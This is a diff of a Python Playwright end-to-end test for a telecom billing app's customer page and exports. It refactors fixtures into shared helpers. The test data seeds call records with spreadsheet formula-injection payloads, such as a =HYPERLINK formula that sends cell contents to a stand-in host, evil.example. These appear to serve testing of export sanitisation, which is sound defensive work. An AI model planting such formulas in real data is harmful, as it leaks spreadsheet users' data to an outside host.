@@ -12,27 +12,23 @@ import csv
 import io
 import re
 import zipfile
-from collections.abc import Iterator
 from datetime import timedelta
 from decimal import Decimal
 from xml.etree import ElementTree
 
 import pytest
-from playwright.sync_api import Browser, Locator, Page, expect, sync_playwright
+from playwright.sync_api import Locator, Page, expect
 
-from carrierdesk.auth.principals import CLI
-from carrierdesk.auth.service import create_user
-from carrierdesk.cdrs.fields import StoredColumns
 from carrierdesk.cdrs.storage import store
-from carrierdesk.customers.schemas import CustomerCreate
-from carrierdesk.customers.service import create_customer
 from carrierdesk.db import transaction
 from carrierdesk.models.base import utcnow
 from carrierdesk.summaries.refresh import refresh
-from e2e.server import CHROMIUM, running_app
+from fixtures.browser import NewPage, submit_login
+from fixtures.builders import add_customer, add_user, stored_cdr
+from support import PASSWORD
 
 pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("browser")]
-EMAIL, PASSWORD = "noc@carrier.example", "Str0ng!Passw0rd"
+EMAIL = "noc@carrier.example"
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
 TEXTS = {
     "dest_name": '=HYPERLINK("http://evil.example","UK")',
@@ -48,34 +44,24 @@ NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
 def losing_customer(db_url: str) -> int:
     """A customer with three calls this hour that cost more than they were charged."""
     with transaction(db_url) as session:
-        create_user(session, CLI, EMAIL, "operator", PASSWORD)
-        customer = create_customer(
-            session, CLI, CustomerCreate(name="Acme Telecom", reference="ACME-001", currency="EUR")
-        )
+        add_user(session, EMAIL, "operator", PASSWORD)
+        customer = add_customer(session, "Acme Telecom", reference="ACME-001", currency="EUR")
         start = utcnow().replace(second=0, microsecond=0) - timedelta(minutes=1)
         store(
             session,
             [
-                StoredColumns(
-                    customer_id=customer.id,
-                    start_time=start - timedelta(seconds=i),
-                    call_id=f"loss-{i}",
-                    sip_user=None,
+                stored_cdr(
+                    customer.id,
+                    f"loss-{i}",
+                    start - timedelta(seconds=i),
                     answer_time=start - timedelta(seconds=i) + timedelta(seconds=2),
                     end_time=start - timedelta(seconds=i) + timedelta(seconds=62),
-                    duration=60,
-                    billed_duration=60,
                     caller=TEXTS["caller"],
                     callee=TEXTS["callee"],
-                    dest_code="44",
                     dest_name=TEXTS["dest_name"],
-                    sip_code=200,
                     sip_reason=TEXTS["sip_reason"],
                     release_reason=TEXTS["release_reason"],
                     pdd_ms=1000,
-                    ring_ms=None,
-                    direction="outbound",
-                    rate=None,
                     charge=Decimal("0.010000"),
                     cost=Decimal("0.050000"),
                 )
@@ -87,26 +73,15 @@ def losing_customer(db_url: str) -> int:
 
 
 @pytest.fixture
-def tab(db_url: str, losing_customer: int) -> Iterator[Page]:
-    with running_app(db_url, run_worker=False) as base_url, sync_playwright() as playwright:
-        browser: Browser = playwright.chromium.launch(**CHROMIUM)
-        context = browser.new_context(
-            viewport={"width": 1600, "height": 1000}, accept_downloads=True, base_url=base_url
-        )
-        context.grant_permissions(["clipboard-read", "clipboard-write"], origin=base_url)
-        context.set_default_timeout(10_000)
-        page = context.new_page()
-        page.goto(f"{base_url}/login")
-        page.fill("#email", EMAIL)
-        page.fill("#password", PASSWORD)
-        page.click("button:has-text('Log in')")
-        page.goto(f"{base_url}/customers/{losing_customer}")
-        expect(
-            page.locator("#summary-grid[data-loaded='true'][data-timeframe='24h']")
-        ).to_be_visible()
-        yield page
-        context.close()
-        browser.close()
+def tab(losing_customer: int, served_app: str, new_page: NewPage) -> Page:
+    page = new_page(
+        viewport={"width": 1600, "height": 1000}, accept_downloads=True, base_url=served_app
+    )
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=served_app)
+    submit_login(page, served_app, EMAIL, PASSWORD)
+    page.goto(f"{served_app}/customers/{losing_customer}")
+    expect(page.locator("#summary-grid[data-loaded='true'][data-timeframe='24h']")).to_be_visible()
+    return page
 
 
 def cell(page: Page, row: int, field: str) -> Locator:
